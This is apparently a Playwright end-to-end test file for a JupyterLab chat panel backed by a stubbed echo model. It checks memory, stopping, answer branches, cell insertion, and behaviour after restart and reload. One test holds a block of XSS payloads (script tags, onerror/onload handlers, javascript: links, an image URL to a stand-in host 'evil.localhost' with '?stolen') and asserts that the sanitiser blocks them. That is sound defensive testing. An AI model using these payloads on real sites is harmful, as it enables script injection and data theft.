"""Talking to a model in the panel: real kernel, and pocket or an engine that says what a test wants."""

from __future__ import annotations

from playwright.sync_api import Locator, expect

from .conftest import KERNEL_IS_READY, OpenedNotebook
from .panel import Panel, make

SCRIPT = """
import time
from jupyter_ollama.engine.echo import EchoEngine, EchoEngines
from jupyter_ollama.notebook import session
class Slow(EchoEngine):
    def generate(self, *given, **named):
        answer = super().generate(*given, **named)
        while True:
            try:
                token = next(answer)
            except StopIteration as end:
                return end.value
            time.sleep({pause})
            yield token
session.get().engines = EchoEngines(*[Slow(*pieces) for pieces in {answers!r}])
"""
WAIT = "import pathlib, time\nwhile not pathlib.Path('{go}').exists(): time.sleep(0.05)"


def says(*answers: list[str], pause: float = 0.0) -> str:
    """A cell after which the model mario says these pieces, one answer for each question."""
    return make("mario") + SCRIPT.format(answers=list(answers), pause=pause)


class Chat:
    """The chat of the panel, with mario."""

    def __init__(self, notebook: OpenedNotebook) -> None:
        self.panel = Panel(notebook)
        self.panel.tab("Chat").click()
        self.area = self.panel.area("Chat")
        self.box = self.area.get_by_role("textbox", name="Your message")
        self.area.get_by_role("combobox", name="Model").select_option("mario:latest")

    def ask(self, text: str) -> None:
        self.box.fill(text)
        self.box.press("Enter")

    @property
    def answer(self) -> Locator:
        """The last answer."""
        return self.area.get_by_role("article", name="Answer of mario:latest").last

    def expect_answer(self, text: str) -> None:
        """Wait for the last answer to be this and over."""
        expect(self.answer.locator(".jo-markdown")).to_have_text(text)
        self.expect_end()

    def expect_end(self) -> None:
        expect(self.answer).to_have_attribute("aria-busy", "false")

    def press(self, name: str) -> None:
        self.area.get_by_role("button", name=name, exact=True).last.click()

    def choose(self, name: str) -> None:
        """An entry of the menu."""
        self.press("More")
        self.area.get_by_role("menuitem", name=name).click()


def start(open_notebook, *cells: str, name: str) -> Chat:
    """A notebook whose first cell has run, and the chat beside it."""
    notebook = open_notebook(list(cells), name=name)
    notebook.run(0)
    return Chat(notebook)


def test_pocket_answers_knows_what_was_said_and_tells_figures(open_notebook):
    chat = start(open_notebook, make("mario"), name="chat-pocket.ipynb")
    chat.ask("My name is Ada.")
    chat.expect_end()
    expect(chat.answer.locator(".jo-markdown")).not_to_be_empty()
    chat.ask("What is my name?")
    expect(chat.area.get_by_role("article", name="Answer of mario:latest")).to_have_count(2)
    chat.expect_end()

    chat.answer.locator(".jo-figures summary").click()

    expect(chat.answer.locator(".jo-figures")).to_contain_text("seed ")
    remembered = chat.answer.locator("dl > div").filter(has_text="of these remembered").locator("dd")
    assert int(remembered.inner_text()) > 10  # what was said before was not read again


def test_it_answers_and_stops_while_a_cell_runs(open_notebook):
    cell = WAIT.format(go="go-on-chat")
    chat = start(open_notebook, says(["one "] * 3000, pause=0.01), cell, name="chat-busy.ipynb")
    notebook = chat.panel.notebook
    notebook.start(1)
    chat.ask("Count.")
    expect(chat.answer).to_contain_text("one one one")

    chat.box.press("Escape")

    expect(chat.answer.get_by_text("Stopped.", exact=True)).to_be_visible()
    chat.expect_end()
    assert notebook.page.evaluate("() => window.jupyterapp.shell.currentWidget.content.widgets[1].promptNode.textContent") == "[*]:"
    (notebook.path.parent / "go-on-chat").touch()
    expect(notebook.cell(1).locator(".jp-InputPrompt")).to_have_text("[2]:")


def test_answers_had_again_and_questions_edited_are_branches(open_notebook):
    chat = start(open_notebook, says(["First."], ["Second."], ["Third."]), name="chat-branches.ipynb")
    chat.ask("Who?")
    chat.expect_answer("First.")
    chat.press("Answer again")
    chat.expect_answer("Second.")
    expect(chat.answer.get_by_text("2/2")).to_be_visible()

    chat.area.get_by_text("Who?").hover()
    chat.press("Edit the question")
    editor = chat.area.get_by_role("textbox", name="Edit the question")
    editor.fill("Who else?")
    editor.press("Enter")
    chat.expect_answer("Third.")
    expect(chat.area.get_by_text("Who else?")).to_be_visible()

    chat.press("Version before")
    chat.expect_answer("Second.")
    chat.press("Version before")
    chat.expect_answer("First.")


def test_a_conversation_goes_on_in_cells_that_say_the_same(open_notebook):
    chat = start(open_notebook, make("mario"), name="chat-cells.ipynb")
    chat.press("Show the settings")
    chat.area.get_by_role("textbox", name="System text").fill('You are "Mario".\nIt\'s you.')
    chat.area.get_by_role("textbox", name="temperature").fill("0")
    chat.press("Hide the settings")
    chat.ask("Who are you?")
    chat.expect_end()
    expect(chat.answer.locator(".jo-markdown")).not_to_be_empty()  # JupyterLab draws it a moment later
    said = chat.answer.locator(".jo-markdown").inner_text()

    chat.press("Insert the answer into the notebook")
    chat.choose("Insert the conversation as %%chat cells")

    notebook = chat.panel.notebook
    expect(notebook.page.locator(".jp-Notebook .jp-Cell")).to_have_count(4)
    notebook.run(2)
    notebook.run(3)
    _, answer, variable, asked = notebook.save().cells
    assert answer.cell_type == "markdown"
    assert answer.source.split() == said.split()
    assert variable.source.startswith('chat_text_1 = """')
    assert asked.source.startswith("%%chat mario:latest --new --system {{chat_text_1}} -o temperature=0 -o seed=")
    assert asked.outputs[0]["data"]["text/markdown"] == answer.source


HOSTILE = """<script>window.evil = 1</script><img src=x onerror="window.evil = 2">

<iframe srcdoc="<script>parent.evil = 3</script>"></iframe><svg onload="window.evil = 4"></svg>

[link](javascript:window.evil=5) ![picture](http://evil.localhost:9/?stolen)

<p style="background: url(http://evil.localhost:9/style)">x</p><a href="javascript:window.evil=6">six</a>

```html
<script>window.evil = 7</script>
```

End."""


def test_nothing_that_is_said_executes_or_fetches_anything(open_notebook):
    pieces = [HOSTILE[at : at + 5] for at in range(0, len(HOSTILE), 5)]  # half a tag at a time
    chat = start(open_notebook, says(pieces, pause=0.02), name="chat-hostile.ipynb")
    page, fetched = chat.panel.page, []
    page.on("request", lambda request: fetched.append(request.url))

    chat.ask(HOSTILE)
    expect(chat.answer.get_by_text("End.", exact=True)).to_be_visible()
    chat.expect_end()
    for link in chat.answer.get_by_role("link").all():
        assert not (link.get_attribute("href") or "").startswith("javascript")

    expect(chat.answer.get_by_role("link", name="picture")).to_have_attribute("href", "http://evil.localhost:9/?stolen")
    expect(chat.answer.locator("script, iframe, img, svg[onload], [onerror], [style*=url]")).to_have_count(0)
    assert page.evaluate("() => window.evil ?? null") is None
    assert not [url for url in fetched if "evil" in url or url.endswith("/x")]
    width = chat.area.evaluate("area => [area.scrollWidth, area.clientWidth]")
    assert width[0] <= width[1]


def test_a_restart_leaves_the_words_that_came(open_notebook):
    notebook = open_notebook([says(["one "] * 3000, pause=0.01)], name="chat-restart.ipynb")
    Panel(notebook).press("Load")  # so that it is loaded again
    notebook.run(0)
    chat = Chat(notebook)
    chat.ask("Count.")
    expect(chat.answer).to_contain_text("one one one")

    chat.panel.restart_kernel()
    chat.panel.expect_state("ready")

    expect(chat.answer).to_contain_text("one one one")
    expect(chat.answer.get_by_text("The kernel was restarted or stopped")).to_be_visible()
    expect(chat.answer.get_by_role("button", name="Try again")).to_be_enabled()


def test_a_conversation_is_there_after_a_reload(open_notebook):
    notebook = open_notebook([says(["I am **Mario**."], ["one "] * 3000, pause=0.01)], name="chat-reload.ipynb")
    notebook.run(0)
    chat = Chat(notebook)
    chat.ask("Who?")
    chat.expect_answer("I am Mario.")
    chat.ask("Count.")
    expect(chat.answer).to_contain_text("one one one")
    notebook.save()

    notebook.page.reload()
    notebook.page.wait_for_function(KERNEL_IS_READY)
    chat = Chat(notebook)

    expect(chat.area.get_by_text("I am Mario.")).to_be_visible()
    expect(chat.answer.get_by_text("The page was left")).to_be_visible()
    expect(chat.answer).to_contain_text("one one one")
